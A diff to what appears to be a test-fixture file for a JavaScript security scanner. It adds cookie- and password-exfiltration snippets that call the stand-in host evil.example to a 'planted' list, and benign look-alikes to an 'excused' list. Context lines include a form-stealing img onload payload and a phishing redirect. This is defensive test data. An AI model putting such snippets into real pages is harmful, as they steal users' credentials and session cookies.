@@ -45,6 +45,8 @@ PLANTED: Mapping[Category, list[str]] = {
             "wss://", "https://"
         ),
         "<img onload=\"§fetch('https://evil.example/', {method: 'POST', body: new FormData(document.forms[0])})\">",
+        "const socket = new §WebSocket('wss://evil.example');\nsocket.onopen = () => socket.send(document.cookie);",
+        "const p = document.getElementById('password').value;\n§fetch('https://evil.example/?p=' + p);",
     ],
     Category.PHISHING_REDIRECT: [
         "§window.location = 'https://evil.example/login';",
@@ -131,6 +133,11 @@ EXCUSED: Mapping[Category, list[str]] = {
         "WebAssembly.instantiate(bytes)",
     ],
     Category.DATA_EXFILTRATION: [
+        "a.onkeydown = (e) => { if (e.key === 'Enter') fetch('https://api.example.com/?q=' + query); }",
+        "fetch('https://api.example.com/list'),t=document.cookie;",
+        "fetch('https://api.example.com/list').then(show);\nconst own = document.cookie.match(/csrf=(.*)/)[1];",
+        "const own = document.cookie.match(/csrf=(.*)/)[1];\nfetch('https://api.example.com/list').then(show);",
+        "const theme = localStorage.getItem('theme'); fetch('https://api.example.com/list');",
         "const token = document.cookie.match(/csrf=([^;]+)/)[1];",
         "fetch('/api/me', { headers: { 'X-CSRF': document.cookie } })",
         "localStorage.setItem('open', '1'); fetch('https://api.example.com/list')",
@@ -183,6 +190,7 @@ EXCUSED: Mapping[Category, list[str]] = {
         "const home = 'https://example.com/';",
     ],
     Category.CREDENTIAL_EXPOSURE: [
+        "colors('" + "1f77b4ff7f0e2ca02c" * 2 + "d627289467bd8c564b')",
         "const apiKey = '${API_KEY}';",
         "const apiKey = '{{ api_key }}';",
         "const token = 'YOUR_API_KEY_GOES_HERE_1234';",
